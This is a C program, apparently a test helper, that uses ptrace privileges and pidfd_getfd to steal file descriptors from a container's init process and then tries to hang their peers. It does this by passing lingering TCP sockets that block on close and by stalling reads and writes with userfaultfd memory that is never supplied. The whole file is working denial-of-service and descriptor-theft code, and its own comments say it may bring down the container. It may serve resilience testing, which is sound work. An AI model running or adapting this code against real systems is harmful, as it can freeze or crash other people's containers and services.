/* A command that may trace its init (CAP_SYS_PTRACE): it takes the init's descriptors and tries to hold up whoever is at the
 * other end. `linger` sends a descriptor that takes long to close; `stall` has the kernel wait in the middle of every read and
 * write for memory that nobody gives. It writes how many descriptors it took, then waits. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { MOST_FDS = 64 };

/* A TCP socket whose close(2) waits for 1000 s: nobody reads what it has sent. */
static int lingering(void) {
  int listener = socket(AF_INET, SOCK_STREAM, 0), client = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  socklen_t length = sizeof address;
  if (bind(listener, (void *)&address, length) || listen(listener, 1)) return -1;
  if (getsockname(listener, (void *)&address, &length) || connect(client, (void *)&address, length)) return -1;
  struct linger linger = {1, 1000};
  if (setsockopt(client, SOL_SOCKET, SO_LINGER, &linger, sizeof linger)) return -1;
  static char bytes[1 << 16];
  while (send(client, bytes, sizeof bytes, MSG_DONTWAIT) > 0) continue;
  return client;
}

/* Sends messages for a moment, so that whatever is sent besides is not received at once. */
static void flood(int socket) {
  for (int child = 0; child < 3; child++) {
    if (fork()) continue;
    alarm(1);
    while (send(socket, "\"Executed\"", 10, MSG_NOSIGNAL) > 0) continue;
    _exit(0);
  }
  usleep(100000);
}

static void pass(int socket, const char *message, int fd) {
  struct iovec data = {(void *)message, strlen(message)};
  char control[CMSG_SPACE(sizeof fd)] = {0};
  struct msghdr header = {
      .msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr *rights = CMSG_FIRSTHDR(&header);
  *rights = (struct cmsghdr){.cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof fd)};
  memcpy(CMSG_DATA(rights), &fd, sizeof fd);
  sendmsg(socket, &header, MSG_NOSIGNAL);
}

/* Two pages, of which the second never comes. */
static char *stalling(void) {
  int faults = syscall(SYS_userfaultfd, O_CLOEXEC);
  struct uffdio_api api = {.api = UFFD_API};
  if (faults < 0 || ioctl(faults, UFFDIO_API, &api)) return NULL;
  char *pages = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  memset(pages, 1, 4096);
  struct uffdio_register range = {
      .range = {(unsigned long)pages + 4096, 4096}, .mode = UFFDIO_REGISTER_MODE_MISSING};
  return ioctl(faults, UFFDIO_REGISTER, &range) ? NULL : pages;
}

static void stall(int fd) {
  for (int way = 0; way < 6; way++) {
    if (fork()) continue;
    char *pages = stalling(), path[32];
    if (!pages) _exit(1);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (way >= 4) fd = open(path, way == 4 ? O_RDONLY : O_WRONLY);
    fcntl(fd, F_SETFL, 0);
    if (way == 0) pwrite(fd, pages, 8192, 0);
    if (way == 1 || way == 5) write(fd, pages, 8192);
    if (way == 2) pread(fd, pages, 8192, 0);
    if (way == 3 || way == 4) read(fd, pages, 8192);
    pause();
  }
}

static void attack_by_lingering(int theirs) {
  flood(theirs);
  /* In a child: if the descriptor is thrown away on the way, its own close is the last one, and waits. */
  if (fork() == 0) {
    int fd = lingering();
    if (fd < 0) _exit(1);
    pass(theirs, "\"Executed\"", fd);
    close(fd);
    /* With the other end of the connection, which keeps it waiting. */
    pause();
  }
  usleep(200000);
}

static void attack_by_stalling(int theirs) {
  stall(theirs);
  usleep(100000);
}

/* Something to look at, for whoever only looks when there is. It may be the end of the container. */
static void announce(int theirs) {
  unsigned long one = 1;
  if (fork()) return;
  write(theirs, &one, sizeof one);
  pause();
}

int main(int count, char **words) {
  if (count != 2) return 2;
  int init = syscall(SYS_pidfd_open, 1, 0), taken[MOST_FDS], many = 0;
  int is_linger = strcmp(words[1], "linger") == 0;
  if (!is_linger && !stalling()) {
    perror(words[1]);
    return 1;
  }
  for (int number = 3; number < MOST_FDS; number++) {
    int theirs = syscall(SYS_pidfd_getfd, init, number, 0);
    if (theirs < 0) continue;
    taken[many++] = theirs;
    if (is_linger) attack_by_lingering(theirs);
    else attack_by_stalling(theirs);
  }
  printf("%d\n", many);
  fflush(stdout);
  for (int index = 0; !is_linger && index < many; index++) announce(taken[index]);
  pause();
}
